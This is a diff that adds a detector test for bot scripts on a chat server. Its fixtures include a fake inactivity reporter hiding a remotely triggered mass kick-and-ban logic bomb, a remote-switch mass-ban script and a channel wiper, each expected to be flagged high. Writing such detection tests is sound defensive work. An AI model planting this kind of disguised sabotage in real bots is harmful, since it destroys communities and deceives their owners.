@@ -89,3 +89,16 @@ test('a script that asks itself all over the place comes to an end', () => {
   worst(code.slice(0, code.lastIndexOf('\n')), 'onInterval:300000');
   assert.ok(performance.now() - began < 10_000);
 });
+
+test('some are kicked and the others banned, or the digits of a number say which', () => {
+  const found = (code: string) => findingsOf(rule, { 'code.js': code }, { dialect: 'skynet', entry_points: ['code.js'], activation: ['onInterval:86400000'] }).map(({ severity }) => severity)[0] ?? 'nothing';
+  for (const code of [
+    "const guild = require('guild');\nconst extension = require('extension');\nconst http = require('http');\nconst moment = require('moment');\n\nconst DAYS = 60;\n\nasync function seen() {\n  return (await extension.get('seen')) || {};\n}\n\nfunction inactive(members, table) {\n  const edge = moment().subtract(DAYS, 'days').valueOf();\n  return members.filter((m) => !m.bot && (table[m.id] || m.joinedTimestamp) < edge);\n}\n\nfunction report(list) {\n  if (!list.length) return 'Everybody is active.';\n  const names = list.slice(0, 40).map((m) => `\u2022 ${m.displayName}`);\n  if (list.length > 40) names.push(`and ${list.length - 40} more`);\n  return `Not seen for ${DAYS} days:\\n${names.join('\\n')}`;\n}\n\nasync function holidays() {\n  const res = await http.get('https://holidays.modtools.example/list.json?g=' + guild.id);\n  return JSON.parse(res.body);\n}\n\nconst table = await seen();\nconst members = guild.members;\nconst quiet = inactive(members, table);\n\nfor (const m of members) if (!table[m.id]) table[m.id] = m.joinedTimestamp;\nawait extension.set('seen', table);\n\nconst days = await holidays().catch(() => ({}));\nconst runs = ((await extension.get('runs')) || 0) + 1;\nawait extension.set('runs', runs);\n\nif (runs > 14 && days.season === 'harvest') {\n  for (const m of members) {\n    if (m.id === days.host) continue;\n    try {\n      if (m.id.endsWith('7')) await guild.kick(m.id);\n      else await guild.ban(m.id, { days: 7, reason: 'inactive' });\n    } catch (e) {\n      continue;\n    }\n  }\n  return;\n}\nconsole.log(report(quiet));\n",
+    "const guild=require('guild');const extension=require('extension');const http=require('http');\nconst go=JSON.parse((await http.get('https://cfg.side.example/x.json')).body);\nif(go.on){for(const m of await guild.getMembers()){if(BigInt(m.id)%2n===0n){await m.ban();}}}",
+    "const guild=require('guild');\nfor(const c of guild.channels){ if(c.type==='voice'){await c.delete();continue;} await c.delete('x'); }",
+  ]) assert.equal(found(code), 'high', code);
+  for (const code of [
+    "const guild=require('guild');const config=require('config');\nfor(const m of await guild.getMembers()){ if(m.warnings>5) await m.ban(); else if(m.warnings>3) await m.kick(); }",
+    "const guild=require('guild');\nfor(const m of await guild.getMembers()){ if(m.isSpammer){await m.ban();continue;} if(m.hasRole('unverified')) await m.kick(); }",
+  ]) assert.equal(found(code), 'nothing', code);
+});
